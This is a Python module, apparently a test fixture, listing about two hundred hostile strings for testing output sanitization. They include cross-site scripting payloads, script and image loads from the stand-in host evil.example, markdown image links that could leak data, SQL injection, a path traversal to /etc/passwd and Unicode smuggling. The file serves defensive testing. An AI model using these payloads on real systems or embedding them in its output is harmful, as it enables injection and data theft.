"""Two hundred strings that try to become markup, to run, to reach another host, or to look like something else."""

from __future__ import annotations

EVIL = "http://evil.example"

_OWN = (
    "<script>alert(1)</script>",
    f"<script src={EVIL}/a.js></script>",
    "<ScRiPt>window.hit=1</sCrIpT>",
    f"<img srcset='{EVIL}/a.png 1x'>",
    '"><svg onload=window.hit=1>',
    "'><svg/onload=alert`1`>",
    '" onmouseover="window.hit=1',
    "' autofocus onfocus='window.hit=1",
    f"</mark></p></article><iframe src={EVIL}></iframe>",
    "</template><script>window.hit=1</script>",
    "<!--<script>-->window.hit=1",
    "<![CDATA[<script>window.hit=1</script>]]>",
    f"<style>@import '{EVIL}/a.css'</style>",
    f"<link rel=stylesheet href={EVIL}>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<base href={EVIL}/>",
    f"<form action={EVIL}><input name=q><button>Go</button></form>",
    f"<object data={EVIL}></object><embed src={EVIL}>",
    "<a href=javascript:window.hit=1>read more</a>",
    "<math><mtext><table><mglyph><style><img src onerror=window.hit=1>",
    "<details open ontoggle=window.hit=1>",
    "<button data-source=1-cited-0>1</button>",
    '<button class="copy-link" data-address="javascript:window.hit=1">x</button>',
    "<dialog open>Please log in</dialog>",
    "<textarea autofocus onfocus=window.hit=1>",
    f"<video poster={EVIL}/a.png src={EVIL}/a.mp4></video>",
    f"<table background={EVIL}/a.png><td>",
    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=window.hit=1>#x'></use></svg>",
    "${window.hit=1} {{constructor.constructor('window.hit=1')()}} `${1}`",
    "&lt;script&gt;window.hit=1&lt;/script&gt; &#60;img&#62; &amp;lt;b&amp;gt;",
    "safe\u202egnp.exe \u2066isolated\u2069",
    "tag\U000e0041\U000e0042 smuggling",
    "nul\x00 escape\x1b[31m bell\x07",
    "zero\u200bwidth\ufeffjoiner\u2060",
    "[999999999] [x] [1, 999] [1",
    "'; DROP TABLE turn; --",
    "%s %(x)s {0} {question} {} {{",
    "../../../../etc/passwd",
    "\\u003cscript\\u003ewindow.hit=1\\u003c/script\\u003e",
)
_EVENTS = ("onerror", "onload", "onclick", "onfocus", "onpointerenter", "onanimationstart", "onwheel", "onscroll", "ontoggle", "onbegin")
_TAGS = ("img src=x", "svg", "body", "video src=x", "audio src=x", "input autofocus", "iframe", "select autofocus")
_LINKS = (
    f"{EVIL}/a.png",
    "javascript:window.hit=1",
    "JaVaScRiPt:window.hit=1",
    "data:text/html,<script>window.hit=1</script>",
    "//evil.example/a.png",
    "\\\\evil.example\\a",
    "java\tscript:window.hit=1",
    "vbscript:window.hit=1",
)
_MARKUP = (
    "![canary]({})",
    "[read more]({})",
    "[x]: {}",
    "<{}>",
    "$$\\href{{{}}}{{x}}$$",
    "\\includegraphics{{{}}}",
    "<a href='{}'>x</a>",
    '<img src="{}">',
    "<form action='{}'>",
    "`[x]({})`",
)

HOSTILE: tuple[str, ...] = (
    *_OWN,
    *(f"<{tag} {event}=window.hit=1>" for tag in _TAGS for event in _EVENTS),
    *(form.format(link) for link in _LINKS for form in _MARKUP),
)
